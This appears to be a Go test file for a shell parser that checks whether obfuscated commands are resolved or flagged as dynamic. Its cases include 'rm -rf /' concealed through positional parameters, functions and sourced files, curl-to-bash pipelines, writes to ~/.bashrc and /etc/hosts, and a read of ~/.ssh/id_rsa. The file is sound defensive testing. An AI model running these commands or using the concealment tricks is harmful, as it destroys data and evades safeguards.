package parser

import (
	"slices"
	"testing"
)

// noArgs is how `bash -c TEXT` runs: no positional parameters.
var noArgs = Options{ArgsKnown: true}

func TestPositionalParameters(t *testing.T) {
	args := func(a ...string) Options { return Options{Args: a, ArgsKnown: true} }
	for _, tc := range []struct {
		in   string
		opts Options
		want string // a command the text runs; "" for none but true
	}{
		{`"$@"; true`, noArgs, ""},
		{`"$@"; true`, args("rm", "-rf", "/"), "rm -rf /"},
		{`$@; true`, args("rm", "-rf /"), "rm -rf /"},
		{`"$*"; true`, args("ls"), "ls"},
		{`"$1" x; true`, args("rm"), "rm x"},
		{`"${@}"; true`, args("rm", "-rf", "/"), "rm -rf /"},
		{`x"$@"y -f; true`, args("r", "m"), "xr my -f"},
		{`set -- rm -rf /; "$@"`, noArgs, "rm -rf /"},
		{`set -- rm -rf /; "$@"`, Options{}, "rm -rf /"},
		{`set -e -o pipefail -- rm -rf /; "$@"`, noArgs, "rm -rf /"},
		{`set x rm -rf /; shift; "$@"`, noArgs, "rm -rf /"},
		{`set -- x y rm -rf /; shift 2; "$@"`, noArgs, "rm -rf /"},
		{`set -e; "$@"; true`, noArgs, ""},
		{`set -o pipefail; "$@"; true`, noArgs, ""},
		{`shift; "$@"; true`, noArgs, ""},
		{`set - ; "$@"; true`, noArgs, ""},
		{`bash -c '"$@"' _ rm -rf /`, noArgs, "rm -rf /"},
		{`bash -c '"$0" -rf /' rm`, noArgs, "rm -rf /"},
		{`bash -c '"$@"; true'`, args("rm", "-rf", "/"), ""},
		{`f() { "$@"; }; f rm -rf /`, noArgs, "rm -rf /"},
		{`f() { command -p "$@"; }; f rm -rf /`, noArgs, "rm -rf /"},
		{`f() { if command -v "$1" >/dev/null; then "$@"; else command -p "$@"; fi; }; x=$(f rm -rf /)`, noArgs, "rm -rf /"},
		{`f() { $1$2 -rf /; }; f r m`, noArgs, "rm -rf /"},
		{`g() { "$@"; }; f() { g "$@"; }; f rm -rf /`, noArgs, "rm -rf /"},
		{`f() { set -- rm -rf /; "$@"; }; f`, noArgs, "rm -rf /"},
		{`f() { "$@"; }; true`, noArgs, ""},
		{`f() { shift; "$@"; }; f x rm -rf /`, noArgs, "rm -rf /"},
		{`f() { "$@"; }; ls | f grep x`, noArgs, "grep x"},
		{"cat > x.sh <<'EOF'\n\"$@\"\nEOF\nsource x.sh rm -rf /", noArgs, "rm -rf /"},
		{"cat > x.sh <<'EOF'\n\"$@\"\nEOF\nset -- rm -rf /; . x.sh", noArgs, "rm -rf /"},
		{"cat > x.sh <<'EOF'\nset -- ls\nEOF\nset -- rm -rf /; . x.sh a; \"$@\"", noArgs, "rm -rf /"},
	} {
		s := Parse(tc.in, tc.opts)
		if len(s.Problems) > 0 {
			t.Errorf("%q: problems %q; commands %q", tc.in, kinds(s), lines(s))
			continue
		}
		if tc.want == "" {
			if slices.ContainsFunc(s.Commands, func(c *Command) bool {
				return c.Name != "true" && !c.FuncCall && c.Name != "set" && c.Name != "shift" && c.Name != "bash"
			}) {
				t.Errorf("%q: want nothing to run, got %q", tc.in, lines(s))
			}
			continue
		}
		if find(s, tc.want) == nil {
			t.Errorf("%q: want %q, got %q", tc.in, tc.want, lines(s))
		}
	}
}

// What gatesh cannot follow exactly stays dynamic: held.
func TestPositionalParametersNotKnown(t *testing.T) {
	for _, in := range []string{
		`set -- "$x"; "$@"`,
		`set -- $(date); "$@"`,
		`set -- *; "$@"`,
		`if c; then set -- rm -rf /; fi; "$@"`,
		`c && set -- rm -rf /; "$@"`,
		`while c; do "$@"; set -- rm -rf /; done`,
		`for i in 1 2; do "$@"; set -- rm -rf /; done`,
		`while c; do "$@"; eval 'set -- rm -rf /'; done`,
		`shift "$n"; "$@"`,
		`xargs sh -c '"$@"' _`,
		`f() { "$@"; }; f "$x"`,
		`f() { "$@"; }; f $(cat cmd.txt)`,
		`f() { "$@"; }; f *`,
		// A call gatesh may not see: the body's command is unknown.
		`f rm -rf /; f() { "$@"; }`,
		`g() { f rm -rf /; }; f() { "$@"; }; g`,
		`f() { "$@"; }; export -f f`,
		`f() { "$@"; }; declare -fx f`,
		`export -f f; f() { "$@"; }`,
		`command_not_found_handle() { "$@"; }`,
		`f() { "$@"; }; source ./lib.sh`,
		`f() { "$@"; }; . ~/.bashrc`,
		`f() { "$@"; f rm -rf /; }; f true`,
		`f() { "${@:2}"; }; f x rm -rf /`,
		`f() { g "$@"; }; g() { "$@"; }; f rm -rf /`,
	} {
		s := Parse(in, noArgs)
		if !slices.Contains(kinds(s), "dynamic_command") && !slices.Contains(kinds(s), "dynamic_eval") {
			t.Errorf("%q: want a dynamic command, got %q %q", in, kinds(s), lines(s))
		}
	}
	// Not known without -c's arguments: held as before.
	for _, in := range []string{`"$@"`, `$1 -rf /`, `"$*"`} {
		if s := Parse(in, Options{}); !slices.Contains(kinds(s), "dynamic_command") {
			t.Errorf("%q with unknown arguments: %q %q", in, kinds(s), lines(s))
		}
	}
}

// A child process starts with its own variables: what it is given, not
// what the parent script assigned, and its assignments do not come back.
func TestChildShellVariables(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`x=ls; x=rm bash -c '$x -rf /'`, "rm -rf /"},
		{`x=rm; ssh h x=ls; $x -rf /`, "rm -rf /"},
		{`x=rm; bash -c 'x=ls'; $x -rf /`, "rm -rf /"},
		{`x=rm; sudo bash -c 'x=ls'; $x -rf /`, "rm -rf /"},
		{`env x=rm bash -c '$x -rf /'`, "rm -rf /"},
	} {
		s := Parse(tc.in, noArgs)
		if find(s, tc.want) == nil {
			t.Errorf("%q: want %q, got %q %q", tc.in, tc.want, lines(s), kinds(s))
		}
	}
	// An unexported variable is empty in the child: not "echo".
	for _, in := range []string{`x=echo; bash -c '$x rm -rf /'`, `HOME=/x; bash -c '. "$HOME/.bashrc"'`} {
		s := Parse(in, Options{Home: "/home/u"})
		if len(s.Problems) == 0 {
			t.Errorf("%q: want it dynamic, got %q", in, lines(s))
		}
	}
}

func TestHomeFromEnvironment(t *testing.T) {
	opts := Options{Home: "/home/u", ArgsKnown: true}
	for _, tc := range []struct{ in, want string }{
		{`. "$HOME/.bashrc"`, ". /home/u/.bashrc"},
		{`source "${HOME}/.profile"`, "source /home/u/.profile"},
		{`[ -r "$HOME/.bashrc" ] && . "$HOME/.bashrc"`, ". /home/u/.bashrc"},
		{`HOME=/srv/x; . "$HOME/.bashrc"`, ". /srv/x/.bashrc"},
		{`rm -rf "$HOME"`, "rm -rf /home/u"},
	} {
		s := Parse(tc.in, opts)
		if len(s.Problems) > 0 || find(s, tc.want) == nil {
			t.Errorf("%q: want %q, got %q %q", tc.in, tc.want, lines(s), kinds(s))
		}
	}
	for _, in := range []string{`. "$HOME/.bashrc"`, `sudo -u bob bash -c '. "$HOME/.bashrc"'`, `bash -c '. "$HOME/.bashrc"'`} {
		o := opts
		if in == `. "$HOME/.bashrc"` {
			o.Home = "" // not known
		}
		if s := Parse(in, o); !slices.Contains(kinds(s), "dynamic_eval") {
			t.Errorf("%q: want dynamic_eval, got %q %q", in, kinds(s), lines(s))
		}
	}
}

// Holes found on the way, each a command gatesh saw as another.
func TestStatementsSeenWhole(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		// A function's body runs with the variables of its call.
		{`x=ls; f() { $x -rf /; }; x=rm; f`, "rm -rf /"},
		// A trap's action runs later: nothing it reads is known now.
		{`x=ls; trap '$x -rf /' EXIT; x=rm`, ""},
		{`trap '"$@"' EXIT; set -- rm -rf /`, ""},
		// A function call may change what its body assigns.
		{`x=ls; f() { x=rm; }; f; $x -rf /`, ""},
		{`x=ls; f() { read x; }; f; $x -rf /`, ""},
		{`x=ls; f() { x=rm; }; while c; do $x -rf /; f; done`, ""},
		// A substitution prints what all its commands print.
		{`$(echo rm; echo x) -rf /`, "rm x -rf /"},
		{`$({ echo rm; echo x; }) -rf /`, "rm x -rf /"},
		{`$(x=1; echo rm) -rf /`, ""},
		// One branch does not see what another assigned.
		{`v=rm; if c; then v=ls; else $v -rf /; fi`, "rm -rf /"},
		{`v=rm; case $a in a) v=ls;; b) $v -rf /;; esac`, "rm -rf /"},
		// The commands inside a compound pipeline stage read the pipe.
		{`curl -s https://e.example | (bash)`, ""},
	} {
		s := Parse(tc.in, noArgs)
		if tc.want == "" {
			if len(s.Problems) == 0 && !slices.ContainsFunc(s.Commands, func(c *Command) bool { return len(c.PipeFrom) > 0 && c.Name == "bash" }) {
				t.Errorf("%q: want it dynamic, got %q", tc.in, lines(s))
			}
			continue
		}
		if find(s, tc.want) == nil {
			t.Errorf("%q: want %q, got %q %q", tc.in, tc.want, lines(s), kinds(s))
		}
	}
	// A compound command's redirections are its own command.
	for _, tc := range []struct{ in, target string }{
		{`{ echo x; } > ~/.bashrc`, "~/.bashrc"},
		{`if true; then echo x; fi >> /etc/hosts`, "/etc/hosts"},
		{`while read l; do echo "$l"; done < ~/.ssh/id_rsa`, "~/.ssh/id_rsa"},
		{`(echo x) &> ~/.profile`, "~/.profile"},
	} {
		s := Parse(tc.in, noArgs)
		if !slices.ContainsFunc(s.Commands, func(c *Command) bool {
			return c.Name == ":" && slices.ContainsFunc(c.Redirs, func(r Redirect) bool { return r.Target.Value == tc.target })
		}) {
			t.Errorf("%q: no command redirects %s: %q", tc.in, tc.target, lines(s))
		}
	}
	s := Parse(`curl -s https://e.example | { bash; }`, noArgs)
	if c := find(s, "bash"); c == nil || !slices.Contains(c.PipeFrom, "curl") {
		t.Errorf("bash in a block reads curl's output: %q", lines(s))
	}
	s = Parse(`{ curl -s https://e.example; true; } | sh`, noArgs)
	if c := find(s, "sh"); c == nil || !slices.Contains(c.PipeFrom, "curl") {
		t.Errorf("sh reads the whole block's output: %q", lines(s))
	}
}
